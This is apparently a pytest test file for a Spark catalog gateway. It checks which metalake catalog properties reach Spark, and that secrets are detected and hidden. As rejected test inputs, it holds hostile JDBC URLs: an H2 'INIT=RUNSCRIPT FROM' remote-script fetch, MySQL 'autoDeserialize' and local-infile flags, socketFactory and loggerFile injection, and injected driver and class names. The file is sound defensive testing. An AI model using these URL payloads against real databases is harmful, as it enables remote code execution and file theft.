"""The table of providers: what Spark is told of a metalake's catalog, and what is left out."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from gateway.app.providers import load_providers, load_shipped_providers
from gateway.catalog.providers import (
    ForSpark,
    NotForSpark,
    Wishes,
    is_secret,
    secrets_in,
    secrets_of,
    spark_catalog,
)
from gateway.catalog.spark_settings import NamedCatalog, session_settings
from gateway.errors import Faults
from gateway.model.metalakes import MetalakeCatalog
from gateway.model.spark_minors import SUPPORTED, Minor

PROVIDERS = load_shipped_providers()
URL = {"jdbc-url": "jdbc:postgresql://db/x", "jdbc-driver": "org.postgresql.Driver"}


def made(
    provider: str,
    properties: dict[str, str],
    minor: Minor = SUPPORTED[0],
    wishes: Wishes | None = None,
    **more: Any,
) -> NamedCatalog | str:
    """Return the catalog, or why there is none."""
    one = MetalakeCatalog(
        **{"name": "pg", "type": "RELATIONAL", "provider": provider, "properties": properties, **more}
    )
    found = spark_catalog(one, PROVIDERS, minor, wishes or Wishes())
    return found.why if isinstance(found, NotForSpark) else found.catalog


def told(*arguments: Any, **more: Any) -> dict[str, str]:
    catalog = made(*arguments, **more)
    assert isinstance(catalog, NamedCatalog), catalog
    settings = session_settings([catalog])
    return {key.removeprefix("spark.sql.catalog.pg").removeprefix("."): v for key, v in settings.items()}


@pytest.mark.parametrize("minor", SUPPORTED, ids=str)
def test_jdbc_on_every_minor(minor: Minor) -> None:
    given = {**URL, "jdbc-user": "u", "jdbc-password": "p", "jdbc.pool.max-size": "9", "in-use": "true"}
    for provider in ("jdbc-postgresql", "jdbc-mysql", "jdbc-anything"):
        assert told(provider, given, minor) == {
            "": "org.apache.spark.sql.execution.datasources.v2.jdbc.JDBCTableCatalog",
            "url": URL["jdbc-url"],
            "driver": URL["jdbc-driver"],
            "user": "u",
            "password": "p",
        }


def test_hive_iceberg_and_paimon() -> None:
    assert told("hive", {"metastore.uris": "thrift://m:9083"})["hive.metastore.uris"] == "thrift://m:9083"
    given = {"catalog-backend": "REST", "uri": "http://i", "warehouse": "w", "s3-secret-access-key": "k"}
    assert made("lakehouse-iceberg", given) == (
        "provider `lakehouse-iceberg` is not enabled (`iceberg: true`)"
    )
    iceberg = told("lakehouse-iceberg", given, wishes=Wishes(enabled=frozenset({"iceberg"})))
    assert iceberg == {
        "": "org.apache.iceberg.spark.SparkCatalog",
        "type": "rest",
        "uri": "http://i",
        "warehouse": "w",
        "s3.secret-access-key": "k",
        "cache-enabled": "false",
    }
    paimon = told("lakehouse-paimon", {"catalog-backend": "filesystem", "warehouse": "s3://w"})
    assert (paimon["metastore"], paimon["warehouse"]) == ("filesystem", "s3://w")


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"type": "FILESET"}, "of type FILESET, which has no tables"),
        ({"in_use": False}, "not in use"),
        ({"provider": ""}, "without a provider"),
        ({"provider": "lakehouse-hudi"}, "unknown provider `lakehouse-hudi`"),
        ({"name": "a-b"}, "its name must consist of letters"),
        ({"name": "session"}, "reserved by Spark"),
        ({"properties": {}}, "`url` is missing"),
        ({"properties": {**URL, "jdbc-user": "${env:HOME}"}}, "Spark would substitute"),
        ({"properties": {**URL, "jdbc-user": "a\nb"}}, "Spark would substitute"),
        ({"left_out": frozenset({"jdbc-password"})}, "`jdbc-password` is not known while"),
    ],
)
def test_what_is_left_out_says_why(change: dict[str, Any], why: str) -> None:
    given = {"provider": "jdbc-mysql", "properties": URL, **change}
    reason = made(given.pop("provider"), given.pop("properties"), **given)
    assert isinstance(reason, str)
    assert why in reason


def test_an_unknown_backend_and_a_minor_without_a_row_are_left_out() -> None:
    wishes = Wishes(enabled=frozenset({"iceberg"}))
    given = {"catalog-backend": "custom", "catalog-backend-impl": "evil.Class", "warehouse": "w"}
    assert "catalog-backend" in str(made("lakehouse-iceberg", given, wishes=wishes))
    given = {"catalog-backend": "rest", "uri": "http://i"}
    assert "for Spark 4.3" in str(made("lakehouse-iceberg", given, Minor(4, 3), wishes))


CODE = {
    "hive": (
        {"metastore.uris": "thrift://m:9083"},
        ["hive.exec.pre.hooks", "hive.metastore.rawstore.impl", "hadoop.fs.s3a.impl", "class"],
    ),
    "lakehouse-iceberg": (
        {"catalog-backend": "rest", "uri": "http://i"},
        [
            "catalog-impl",
            "io-impl",
            "lock-impl",
            "metrics-reporter-impl",
            "client.factory",
            "s3.client-factory-impl",
            "rest.auth.type",
            "jdbc.socketFactory",
            "encryption.kms-impl",
            "table-default.write.location-provider.impl",
            "hadoop.fs.s3a.impl",
            "type",
            "uri",
            "class",
        ],
    ),
    "lakehouse-paimon": (
        {"catalog-backend": "filesystem", "warehouse": "s3://w"},
        ["hadoop.fs.s3a.impl", "hive-conf-dir", "jdbc.socketFactory", "fs.s3a.impl", "lock.type", "class"],
    ),
    "jdbc-mysql": (URL, ["sessionInitStatement", "driver", "url", "connectionProvider", "keytab", "class"]),
}
"""Provider → properties of a catalog that is told, and parameters that name code, files or statements."""


@pytest.mark.parametrize("provider", CODE)
def test_a_server_does_not_say_which_code_runs(provider: str) -> None:
    good, evil = CODE[provider]
    wishes = Wishes(enabled=frozenset({"iceberg"}))
    given = {**good, **{f"spark.bypass.{key}": "evil.Class" for key in evil}}
    # Not in capitals either, and not as what they are without a prefix.
    given |= {f"spark.bypass.{key.upper()}": "evil.Class" for key in evil}
    given |= {key: "evil.Class" for key in evil if key not in (*good, "io-impl")}
    given["gravitino.bypass.fetchsize"] = "11"
    assert told(provider, given, Minor(3, 5), wishes) == told(provider, good, Minor(3, 5), wishes)
    one = MetalakeCatalog(name="pg", type="RELATIONAL", provider=provider, properties=given)
    found = spark_catalog(one, PROVIDERS, Minor(3, 5), wishes)
    assert isinstance(found, ForSpark)
    assert set(found.left_out) == {key for key in given if key.startswith("spark.bypass.")}


def test_a_server_says_parameters_that_are_known_by_their_types() -> None:
    good = {**URL, "spark.bypass.FetchSize": "10", "spark.bypass.pushDownLimit": "false"}
    assert told("jdbc-mysql", good)["fetchsize"] == "10"
    assert told("jdbc-mysql", good)["pushDownLimit"] == "false"
    assert made("jdbc-mysql", {**URL, "spark.bypass.fetchsize": "ten"}) == (
        "its `spark.bypass.fetchsize` is not a valid number"
    )


def test_a_class_counts_where_it_is_one_of_those_that_are_known() -> None:
    wishes = Wishes(enabled=frozenset({"iceberg"}))
    rest = {"catalog-backend": "rest", "uri": "http://i"}
    own = "org.apache.iceberg.aws.s3.S3FileIO"
    assert told("lakehouse-iceberg", {**rest, "io-impl": own}, wishes=wishes)["io-impl"] == own
    assert "`io-impl` must be one of" in str(
        made("lakehouse-iceberg", {**rest, "io-impl": "evil.IO"}, wishes=wishes)
    )
    assert made("jdbc-mysql", {**URL, "jdbc-driver": "evil.Driver"}) == (
        "its `jdbc-driver` is not a known driver"
    )
    # The entry in `catalogs:` may say it: its writer is the operator.
    ours = Wishes(set_parameters={"pg": {"driver": "our.Driver"}})
    assert told("jdbc-mysql", {**URL, "jdbc-driver": "evil.Driver"}, wishes=ours)["driver"] == "our.Driver"


def test_a_class_of_a_catalog_is_not_what_it_needs() -> None:
    wishes = Wishes(enabled=frozenset({"iceberg"}))
    given = {"spark.bypass.catalog-impl": "evil.Class", "catalog-impl": "evil.Class"}
    assert made("lakehouse-iceberg", given, wishes=wishes) == "`type` or `catalog-impl` is missing"


@pytest.mark.parametrize(
    ("address", "why"),
    [
        ("jdbc:postgresql://db:5432/x", ""),
        (
            "jdbc:postgresql://a:1,[::1]:2/x?sslmode=require&ApplicationName=a b",
            "the form `name=value`",
        ),
        ("jdbc:postgresql://a:1,[::1]:2/x?sslmode=require&ApplicationName=a", ""),
        ("jdbc:mysql://u:p%40ss@db/x?useSSL=true&serverTimezone=UTC", ""),
        ("jdbc:mysql://db", ""),
        ("jdbc:mysql://db/x?", ""),
        ("jdbc:derby:memory:x;create=true", ""),
        ("jdbc:derby:/var/x;create=true", "the form"),
        ("jdbc:derby:memory:x;createFrom=/x", "`createFrom`"),
        ("jdbc:postgresql:memory:x", "the form"),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", "not the address of a known database"),
        ("http://db", "not the address"),
        ("", "not the address"),
        ("JDBC:postgresql://db/x", "not the address"),
        ("jdbc:postgresql://db/x?socketFactory=evil&socketFactoryArg=x", "`socketFactory`"),
        ("jdbc:postgresql://db/x?loggerFile=/x", "`loggerFile`"),
        ("jdbc:mysql://db/x?AUTODESERIALIZE=true", "`AUTODESERIALIZE`"),
        ("jdbc:mysql://db/x?allowLoadLocalInfile=true", "`allowLoadLocalInfile`"),
        ("jdbc:mysql://db/x?%61utoDeserialize=true", "the form `name=value`"),
        ("jdbc:mysql://db/x?useSSL=true#&autoDeserialize=true", "the form `name=value`"),
        ("jdbc:mysql://address=(host=db)(autoDeserialize=true)/x", "the form"),
        ("jdbc:mysql://(host=db,autoDeserialize=true)/x", "the form"),
        ("jdbc:mysql:loadbalance://db/x", "the form"),
        ("jdbc:mysql://db/x;autoDeserialize=true", "the form"),
        ("jdbc:mysql://db/x?useSSL", "the form `name=value`"),
        ("jdbc:mysql://db/x\n?a=b", "the form"),
    ],
)
def test_an_address_counts_when_all_of_it_is_known(address: str, why: str) -> None:
    found = made("jdbc-mysql", {**URL, "jdbc-url": address})
    assert (why in str(found)) if why else isinstance(found, NamedCatalog)
    if why:
        assert isinstance(found, str)
        # The same for a catalog of Iceberg in a database.
        wishes = Wishes(enabled=frozenset({"iceberg"}))
        given = {"catalog-backend": "jdbc", "uri": address, "warehouse": "w"}
        assert address.startswith("http") or isinstance(made("lakehouse-iceberg", given, wishes=wishes), str)


def test_what_the_entry_sets_counts_whatever_the_server_says() -> None:
    wishes = Wishes(set_parameters={"pg": {"Password": "***", "url": "jdbc:postgresql://other/x"}})
    given = {**URL, "jdbc-password": "theirs"}
    catalog = told("jdbc-mysql", given, wishes=wishes, left_out=frozenset({"jdbc-password"}))
    assert catalog["Password"] == "***"
    assert catalog["url"] == "jdbc:postgresql://other/x"
    assert "theirs" not in str(catalog)


def test_gravitinos_own_connector_is_told_its_class_alone() -> None:
    own = Wishes(own_connectors=True)
    assert told("jdbc-postgresql", URL, Minor(3, 5), own) == {
        "": "org.apache.gravitino.spark.connector.jdbc.postgresql.GravitinoPostgreSqlCatalogSpark35"
    }
    own = replace(own, set_parameters={"pg": {"password": "***", "fetchsize": "10"}})
    assert told("jdbc-postgresql", URL, Minor(3, 5), own)["fetchsize"] == "10"
    assert "no connector" in str(made("jdbc-postgresql", URL, Minor(4, 3), own))


def test_types_are_those_of_the_provider() -> None:
    hive, pg = (PROVIDERS.row(name, SUPPORTED[0]) for name in ("hive", "jdbc-postgresql"))
    iceberg = PROVIDERS.row("lakehouse-iceberg", SUPPORTED[0])
    assert hive is not None
    assert pg is not None
    assert iceberg is not None
    assert (hive.types["timestamp"], iceberg.types["timestamp"]) == ("timestamp", "timestamp_ntz")
    assert (pg.types["time"], pg.types["long"]) == ("timestamp", "bigint")
    assert "time" not in hive.types


@pytest.mark.parametrize(
    ("key", "value", "secret"),
    [
        ("jdbc-password", "x", True),
        ("s3-secret-access-key", "x", True),
        ("jdbc-url", "jdbc:mysql://u:p@db/x", True),
        ("jdbc-url", "jdbc:mysql://[u:p@db/x", True),
        ("jdbc-password", "", True),
        ("jdbc-url", "jdbc:mysql://db/x?password=p", True),
        ("jdbc-url", "jdbc:mysql://db/x", False),
        ("warehouse", "s3://w", False),
    ],
)
def test_secrets_are_known_by_key_and_by_value(key: str, value: str, secret: bool) -> None:
    assert is_secret(key, value) is secret


def test_a_password_within_an_address_is_hidden_by_itself_too() -> None:
    url = "jdbc:mysql://u:p%40ss@db/x?password=other&a=b"
    assert secrets_in("jdbc-url", url) == (url, "other", "p%40ss", "p@ss")
    assert secrets_in("jdbc-user", "u") == ()
    encoded = "jdbc:x://db?password=p%40ss"
    assert secrets_in("url", encoded) == (encoded, "p%40ss", "p@ss")


def test_of_a_secret_parameter_all_is_hidden_and_what_is_secret_within() -> None:
    assert secrets_of("url", "jdbc:x://db?password=p") == ("jdbc:x://db?password=p", "p")
    assert secrets_of("user", "u") == ("u",)
    assert secrets_of("credential", "me:hush") == ("me:hush", "hush")
    assert secrets_of("credential", "hush") == ("hush",)


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "bypass: x\nproviders: []",
        "bypass: x.\nproviders: [{provider: A, kind: jdbc, minors: ['3.5']}]",
        "bypass: x.\nproviders: [{provider: a, kind: nothing, minors: ['3.5']}]",
        "bypass: x.\nproviders: [{provider: a, kind: memory, minors: ['3.5']}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['2.4']}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], colour: red}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], properties: {k: {to: nope}}}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], types: {k: 'a?b'}}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], enabled_by: nope}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], bypass: {nope: text}}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], bypass: {url: nope}}]",
        "bypass: x.\nproviders: [{provider: a, kind: jdbc, minors: ['3.5'], "
        "properties: {k: {to: url, type: x}}}]",
        "bypass: x.\ndatabases: x\nproviders: [{provider: a, kind: jdbc, minors: ['3.5']}]",
        "bypass: x.\ndatabases: [x]\nproviders: [{provider: a, kind: jdbc, minors: ['3.5']}]",
        "bypass: x.\ndatabases: [{database: x}]\nproviders: [{provider: a, kind: jdbc, minors: ['3.5']}]",
    ],
)
def test_faults_of_a_table_are_told(text: str) -> None:
    with pytest.raises(Faults):
        load_providers(text, "table.yaml")
